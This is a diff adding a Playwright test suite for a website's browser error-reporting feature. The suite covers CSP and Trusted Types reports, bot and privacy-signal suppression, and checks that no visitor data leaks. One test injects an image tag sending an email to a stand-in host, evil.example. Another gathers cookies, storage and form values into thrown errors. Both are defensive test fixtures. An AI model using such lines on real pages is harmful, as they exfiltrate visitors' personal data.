@@ -1,0 +1,255 @@
+import type { BrowserContextOptions, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect } from 'vitest';
+import type { Envelope, Report } from '../../site/lib/reports/report.ts';
+import { linesOf } from '../../site/server/reports/browser-report.ts';
+import type { RunningServer } from '../../site/server/start-server.ts';
+import spec from '../../spec/index.ts';
+import { startReceiver, type Receiver } from '../backend/support/receiver.ts';
+import { listen, test, type OpenPage } from '../support/browser.ts';
+import { buildVariant, type Variant } from '../support/variant.ts';
+
+const perPageView = 6;
+let receiver: Receiver<Envelope>;
+let variant: Variant;
+/** Answers as a static host does: it neither counts nor marks what it does not find. */
+let site: RunningServer;
+
+beforeAll(async () => {
+  receiver = await startReceiver<Envelope>();
+  const reports = { url: receiver.url, perPageView, perMinute: 60 };
+  variant = await buildVariant({ ...spec, integrations: { ...spec.integrations, reports } });
+  site = await variant.serve();
+}, 180_000);
+afterAll(async () => {
+  await site?.close();
+  variant?.remove();
+  await receiver.close();
+});
+beforeEach(() => void (receiver.told as unknown[]).splice(0));
+// The server takes them as well, where the spec names a path of its own.
+afterEach(() => {
+  for (const { body } of receiver.told) if (body.from === 'browser') expect(linesOf(JSON.stringify(body))).toHaveLength(1);
+});
+
+const told = (): readonly Report[] => receiver.told.flatMap(({ body }) => body.reports);
+/** Just these arrive, in whatever order. */
+const arrives = async (...reports: object[]): Promise<void> => {
+  await expect.poll(() => told().length).toBe(reports.length);
+  for (const report of reports) expect(told()).toContainEqual(expect.objectContaining(report));
+};
+
+interface Changes extends BrowserContextOptions {
+  /** A script of the site's own at the end of the head. */
+  readonly script?: string;
+  /** Other changes to the page on its way. */
+  readonly change?: (html: string) => string;
+  readonly before?: (page: Page) => Promise<unknown>;
+}
+
+/** Opens a page of the variant, with a mistake put into it. */
+const open = async (openPage: OpenPage, path: string, { script, change, before, ...options }: Changes = {}): Promise<Page> => {
+  // Chromium takes a page that a test has changed for one of the internet, which may not ask this machine without leave.
+  const page = await openPage('about:blank', { baseURL: site.url, permissions: ['local-network-access'], ...options });
+  await page.route('**/assets/broken-1a2b.js', (route) => route.fulfill({ contentType: 'text/javascript', body: script ?? '' }));
+  await page.route(
+    ({ origin, pathname }) => origin === site.url && pathname === path.split(/[?#]/)[0],
+    async (route) => {
+      const response = await route.fetch();
+      const html = (await response.text()).replace('</head>', `${script === undefined ? '' : '<script src="/assets/broken-1a2b.js"></script>'}</head>`);
+      await route.fulfill({ response, body: change?.(html) ?? html });
+    },
+  );
+  await before?.(page);
+  await page.goto(path);
+  return page;
+};
+
+const frame = expect.stringMatching(/^\/assets\/broken-1a2b\.js:1:\d+$/);
+
+describe('a browser reports', () => {
+  test('an error that came before the code that reports it', async ({ openPage }) => {
+    await open(openPage, '/inicio', { script: 'null.x' });
+    await expect.poll(() => receiver.told.map(({ body }) => body)).toEqual([
+      {
+        from: 'browser',
+        build: expect.stringMatching(/^[0-9a-f]{12}$/),
+        page: 'home',
+        locale: 'es',
+        browser: expect.stringMatching(/^chrome\/\d+$/),
+        reports: [{ kind: 'error', name: 'TypeError', code: 'nothing-there', frames: [frame] }],
+      },
+    ]);
+  });
+
+  test('an error and a rejection that come later', async ({ openPage }) => {
+    const script = "addEventListener('click', () => { setTimeout(() => nothing()); Promise.reject(new RangeError('x')); })";
+    const page = await open(openPage, '/en/contacto', { script, locale: 'en-US' });
+    await page.waitForLoadState('networkidle');
+    await page.locator('h1').click();
+    await expect.poll(() => told().length).toBe(2);
+    expect(told()).toContainEqual({ kind: 'error', name: 'ReferenceError', code: 'unknown-name', frames: expect.arrayContaining([frame]) });
+    expect(told()).toContainEqual({ kind: 'rejection', name: 'RangeError', code: 'other', frames: [frame] });
+    expect(receiver.told[0]?.body).toMatchObject({ page: 'contact', locale: 'en' });
+  });
+
+  test('a part of the site that cannot be loaded', async ({ openPage }) => {
+    const page = await open(openPage, '/inicio');
+    await page.waitForLoadState('networkidle');
+    await page.route('**/assets/chunks/**', (route) => route.abort());
+    await page.locator('form#contact-home [name=name]').focus();
+    await arrives({ kind: 'load', file: expect.stringMatching(/^\/assets\/chunks\/chunk-.+\.js$/) });
+  });
+
+  test('a file of the page itself that is not there', async ({ openPage }) => {
+    await open(openPage, '/inicio', { change: (html) => html.replace('</head>', '<script src="/assets/gone-1a2b.js"></script></head>') });
+    await arrives({ kind: 'load', file: '/assets/gone-1a2b.js' });
+  });
+
+  test('what the content security policy stops: an origin at most', async ({ openPage }) => {
+    const foreign = '<script>1</script><img src="https://evil.example/ana.png?email=ana">';
+    await open(openPage, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
+    await arrives(
+      { kind: 'policy', directive: 'script-src-elem', blocked: 'inline' },
+      { kind: 'policy', directive: 'img-src', blocked: 'https://evil.example' },
+    );
+  });
+
+  test('what Trusted Types stop', async ({ openPage }) => {
+    await open(openPage, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
+    await arrives(
+      { kind: 'policy', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', frames: [frame] },
+      { kind: 'error', name: 'TypeError', code: 'trusted-types', frames: [frame] },
+    );
+  });
+
+  test('a form whose markup is not what its code expects', async ({ openPage }) => {
+    const page = await open(openPage, '/inicio', { change: (html) => html.replace(/(<label[^>]*for="contact-home[^>]*>)[^<]+/, '$1<b>Ana</b>') });
+    await page.waitForLoadState('networkidle');
+    await page.locator('form#contact-home [name=name]').focus();
+    await arrives({ kind: 'error', name: 'Error', code: 'react-418' });
+  });
+
+  test('an address that leads nowhere, where the server does not', async ({ openPage }) => {
+    await open(openPage, '/gracias/ana%40correo.mx/5512345678?nombre=ana#ana');
+    await arrives({ kind: 'path', path: '/gracias/:email/:number' });
+  });
+
+  test('the same thing once, and so many different ones', async ({ openPage }) => {
+    const script = `for (let i = 0; i < 20; i += 1) setTimeout(() => { throw new Error(); });
+const fail = (i) => { throw new Error(); };
+${Array.from({ length: 20 }, (_, index) => `setTimeout(() => fail(${index}));`).join('\n')}
+setTimeout(() => { window.done = true; }, 50);`;
+    const page = await open(openPage, '/inicio', { script });
+    await page.waitForFunction('window.done');
+    await expect.poll(() => receiver.told.length).toBe(perPageView);
+    await page.waitForLoadState('networkidle');
+    expect(new Set(told().map((report) => JSON.stringify(report))).size).toBe(perPageView);
+    expect(receiver.told).toHaveLength(perPageView);
+  });
+});
+
+describe('a browser does not report', () => {
+  const broken = { script: 'null.x' };
+  const nothing = async (page: Page): Promise<void> => {
+    await page.waitForLoadState('networkidle');
+    expect(receiver.told).toEqual([]);
+  };
+
+  test('to another site what a visitor who wants to be left alone meets', async ({ openPage }) => {
+    const before = (page: Page): Promise<unknown> => page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
+    await nothing(await open(openPage, '/inicio', { ...broken, before }));
+  });
+
+  test('what a bot meets', async ({ openPage }) => {
+    await nothing(await open(openPage, '/inicio', { ...broken, userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1) Chrome/140.0.0.0' }));
+  });
+
+  test('mistakes of somebody else’s script', async ({ openPage }) => {
+    const before = (page: Page): Promise<unknown> =>
+      page.route('https://agenda.cimiento.example/**', (route) => route.fulfill({ contentType: 'text/javascript', body: 'Promise.reject(new Error("x")); null.x' }));
+    const page = await open(openPage, '/servicios/asesoria-ia', { before });
+    const failed = page.waitForEvent('pageerror');
+    await page.locator('[data-booking]').scrollIntoViewIfNeeded();
+    await failed;
+    await nothing(page);
+  });
+
+  test('anything when nothing is wrong, and nothing is wrong with it', async ({ openPage }) => {
+    const page = await openPage('about:blank', { baseURL: site.url });
+    const complaints = listen(page);
+    for (const path of ['/inicio', '/servicios/asesoria-legal', '/contacto']) {
+      await page.goto(path);
+      await nothing(page);
+    }
+    expect(complaints).toEqual({ errors: [], console: [] });
+  });
+
+  test('a bad address that the server has counted', async ({ openPage }) => {
+    const watching = await variant.serve({ reports: { url: receiver.url, perMinute: 60 } });
+    const page = await openPage('/no-hay-tal?nombre=ana', { baseURL: watching.url });
+    await nothing(page);
+    await watching.close();
+    await arrives({ kind: 'path', path: '/no-hay-tal', count: 1 });
+    expect(receiver.told[0]?.body.from).toBe('server');
+  });
+});
+
+describe('no report has anything of a visitor’s', () => {
+  const marks = ['marca.correo@persona.example', '5587654321', 'MarcaNombre'] as const;
+  const [email, phone, name] = marks;
+
+  test('from address, form, storage, cookies, message or page before', async ({ openPage }) => {
+    // Everything that a script can reach is put into what is thrown.
+    const script = `const all = () => [location.href, document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(sessionStorage),
+  ...[...document.querySelectorAll('input, textarea')].map((field) => field.value)].join('\\n    at x (' + location.origin + '/assets/${name}.js:1:1)\\n');
+class MarcaNombre extends Error { name = ${JSON.stringify(name)} }
+addEventListener('blur', () => {
+  setTimeout(() => { throw new Error(all()); });
+  setTimeout(() => { throw new MarcaNombre(all()); });
+  setTimeout(() => { throw all(); });
+  Promise.reject({ all: all() });
+  JSON.parse(all());
+}, true);`;
+    const page = await open(openPage, `/contacto?nombre=${name}&email=${email}#${phone}`, {
+      script,
+      before: async (page) => {
+        await page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]);
+        await page.addInitScript((marks) => marks.forEach((mark) => localStorage.setItem(mark, mark)), [...marks]);
+      },
+    });
+    await page.waitForLoadState('networkidle');
+    await page.locator('#contact-page [name=name]').fill(name);
+    await page.locator('#contact-page [name=email]').fill(email);
+    await page.locator('#contact-page [name=phone]').fill(phone);
+    await page.locator('#contact-page [name=message]').focus();
+    const kinds = ['error SyntaxError', 'error Error', 'error Error', 'error none', 'rejection none'];
+    await expect.poll(() => told().map((report) => `${report.kind} ${'name' in report ? report.name : ''}`)).toEqual(expect.arrayContaining(kinds));
+    for (const mark of marks) expect(JSON.stringify(receiver.told)).not.toContain(mark);
+  });
+
+  test('nor has the request that brings it', async ({ openPage }) => {
+    await open(openPage, `/inicio?nombre=${name}`, {
+      script: 'null.x',
+      before: (page) => page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]),
+    });
+    await expect.poll(() => receiver.told.length).toBe(1);
+    const { headers } = receiver.told[0] ?? {};
+    expect(headers).toHaveProperty('content-type', 'text/plain;charset=UTF-8');
+    for (const header of ['cookie', 'referer', 'authorization']) expect(headers).not.toHaveProperty(header);
+  });
+});
+
+describe('as long as the spec does not ask for it', () => {
+  test('an error is nobody else’s business, and no page has any code for it', async ({ openPage }) => {
+    expect(spec.integrations).not.toHaveProperty('reports');
+    const page = await openPage('about:blank');
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(request.url()));
+    await page.goto('/no-hay-tal');
+    await page.evaluate(() => setTimeout(() => Promise.reject(new Error('x'))));
+    await page.waitForLoadState('networkidle');
+    expect(requests.filter((url) => new URL(url).origin !== new URL(page.url()).origin)).toEqual([]);
+    expect(await page.locator('script[data-build]').count()).toBe(0);
+    expect(await page.evaluate(() => 'earlyReports' in window)).toBe(false);
+  });
+});
